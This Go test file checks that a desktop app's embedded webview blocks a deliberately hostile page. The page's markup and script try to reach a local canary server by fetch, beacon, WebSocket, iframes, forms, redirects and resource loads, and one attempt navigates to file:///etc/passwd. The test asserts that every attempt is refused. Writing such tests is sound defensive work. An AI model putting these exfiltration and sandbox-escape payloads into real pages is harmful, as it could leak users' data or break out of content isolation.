//go:build window && desktop

package native_test

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"nexusai/app/feed"
	"nexusai/app/localapi"
	"nexusai/app/native"
)

// Run with a display:
//
//	go test -tags desktop,production,webkit2_41,window ./app/native
//
// The page in this test is hostile: its markup is what a model could write and
// its script is what somebody could run who found a way around the policy. It
// must reach nothing outside, leave its address, or get a frame.

// attack runs in the real window and then reports what it got.
const attack = `
const out = {};
const canary = "CANARY";
const attempt = async (name, fn) => { try { out[name] = String(await fn()); } catch (e) { out[name] = "refused"; } };
const soon = (p) => Promise.race([p, new Promise((_, no) => setTimeout(() => no(new Error("nothing")), 1500))]);
(async () => {
  out.inline = String(window.inlineRan === true);
  await attempt("fetch", () => soon(fetch(canary + "/fetch")));
  await attempt("nocors", () => soon(fetch(canary + "/nocors", { mode: "no-cors" })));
  await attempt("beacon", () => navigator.sendBeacon(canary + "/beacon", "x") && "queued");
  await attempt("socket", () => soon(new Promise((ok, no) => { const s = new WebSocket(canary.replace("http", "ws") + "/socket"); s.onopen = () => ok("open"); s.onerror = no; })));
  await attempt("events", () => soon(new Promise((ok, no) => { const s = new EventSource(canary + "/events"); s.onopen = () => ok("open"); s.onerror = () => { s.close(); no(); }; })));
  await attempt("image", () => soon(new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = no; i.src = canary + "/image.png"; })));
  await attempt("popup", () => { const w = window.open(canary + "/popup"); if (!w) throw 0; return "opened"; });
  await attempt("rtc", () => typeof RTCPeerConnection === "function" ? "there" : Promise.reject());
  await attempt("media", () => soon(navigator.mediaDevices.getUserMedia({ audio: true })));
  for (const [name, set] of Object.entries({
    remote: (f) => { f.src = canary + "/frame"; }, inner: (f) => { f.src = "/evil.html"; },
    srcdoc: (f) => { f.srcdoc = "<script src='/evil.js'><\/script>"; }, data: (f) => { f.src = "data:text/html,<script>parent.got=1<\/script>"; },
  })) {
    await attempt("frame_" + name, async () => {
      const f = document.createElement("iframe"); set(f); document.body.append(f);
      await new Promise((r) => setTimeout(r, 400));
      const d = f.contentDocument;
      if (d && d.body && d.body.childElementCount + d.head.childElementCount > 0) return "has a document";
      throw 0;
    });
  }
  await attempt("form", () => { const f = document.createElement("form"); f.action = canary + "/form"; f.method = "post"; document.body.append(f); f.submit(); throw 0; });
  await attempt("meta", () => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + canary + "/meta"; document.head.append(m); throw 0; });
  await attempt("click", () => { const a = document.createElement("a"); a.href = canary + "/click"; document.body.append(a); a.click(); throw 0; });
  await attempt("location", () => { location.href = canary + "/location"; throw 0; });
  await attempt("file", () => { location.href = "file:///etc/passwd"; throw 0; });
  await new Promise((r) => setTimeout(r, 1200));
  out.framed = String(window.top !== window || window.evilFramed === true);
  out.address = location.protocol + "//" + location.host;
  await fetch("/report", { method: "POST", body: JSON.stringify(out) });
  FLOOD
})();
`

const hostilePage = `<!doctype html><html><head><meta charset="utf-8">
<style>@import url("CANARY/import.css"); body { background: url("CANARY/css.png"); } @font-face { font-family: x; src: url("CANARY/font.woff2"); } p { font-family: x; }</style>
<script>window.inlineRan = true</script></head>
<body onload="window.inlineRan = true"><p>hostile</p>
<img src="CANARY/img.png" onerror="window.inlineRan = true"><img src="CANARY/srcset.png" srcset="CANARY/srcset2.png 2x">
<video src="CANARY/video.mp4" autoplay></video><object data="CANARY/object"></object><embed src="CANARY/embed">
<link rel="stylesheet" href="CANARY/link.css"><link rel="prefetch" href="CANARY/prefetch"><link rel="dns-prefetch" href="CANARY">
<a href="javascript:window.inlineRan=true" id="js">x</a><svg><image href="CANARY/svg.png"/></svg>
<script src="CANARY/script.js"></script><script src="/evil.js"></script></body></html>`

// Wails wants the process's first thread, which is TestMain's.
func TestMain(m *testing.M) {
	runtime.LockOSThread()
	if !native.HasDisplay() {
		fmt.Fprintln(os.Stderr, "these tests need a display: start Xvfb and set DISPLAY")
		os.Exit(1)
	}
	os.Exit(func() int {
		lab.start()
		defer lab.canary.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		code := make(chan int, 1)
		go func() {
			code <- m.Run()
			cancel()
		}()
		err := native.Run(ctx, native.Config{Title: "hostile", Handler: lab, Feed: feed.New(), Log: slog.New(slog.DiscardHandler), Outside: lab.outside})
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		return <-code
	}())
}

// laboratory serves the hostile page in the window and counts who reaches the
// canary outside.
type laboratory struct {
	canary *httptest.Server
	report chan map[string]string

	beats    atomic.Int64
	flooded  chan struct{}
	mistaken chan any // what recover returned

	mu     sync.Mutex // guards what follows
	hits   []string
	opened []string
}

var lab = &laboratory{report: make(chan map[string]string, 1), flooded: make(chan struct{}, 1), mistaken: make(chan any, 1)}

func (l *laboratory) start() {
	l.canary = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		defer l.mu.Unlock()
		l.hits = append(l.hits, r.URL.Path)
	}))
}

func (l *laboratory) outside(url string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.opened = append(l.opened, url)
}

func (l *laboratory) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	localapi.Secure(w.Header())
	fill := func(kind, text string) {
		w.Header().Set("Content-Type", kind)
		_, _ = w.Write([]byte(strings.ReplaceAll(text, "CANARY", l.canary.URL)))
	}
	switch r.URL.Path {
	case "/evil.js":
		fill("text/javascript", "if (window.top !== window) { window.top.evilFramed = true; } else {"+strings.ReplaceAll(attack, "FLOOD", flood)+"}")
	case "/report":
		var out map[string]string
		if json.NewDecoder(r.Body).Decode(&out) == nil {
			l.report <- out
		}
	case "/beat":
		l.beats.Add(1)
	case "/flooded":
		l.flooded <- struct{}{}
	case "/mistake":
		l.mistake()
	default:
		fill("text/html; charset=utf-8", hostilePage)
	}
}

func TestHostilePageReachesNothing(t *testing.T) {
	var got map[string]string
	select {
	case got = <-lab.report:
	case <-time.After(40 * time.Second):
		t.Fatal("the page did not report: it was taken away, or its script did not run")
	}
	t.Logf("%v", got)
	for name, want := range map[string]string{"inline": "false", "framed": "false", "address": "wails://wails"} {
		if got[name] != want {
			t.Errorf("%s is %q, want %q", name, got[name], want)
		}
	}
	for name, result := range got {
		if name != "inline" && name != "framed" && name != "address" && name != "beacon" && result != "refused" {
			t.Errorf("%s: %s", name, result)
		}
	}
	lab.mu.Lock()
	defer lab.mu.Unlock()
	if len(lab.hits) > 0 || len(lab.opened) > 0 {
		t.Errorf("reached outside: %v, opened: %v", lab.hits, lab.opened)
	}
}
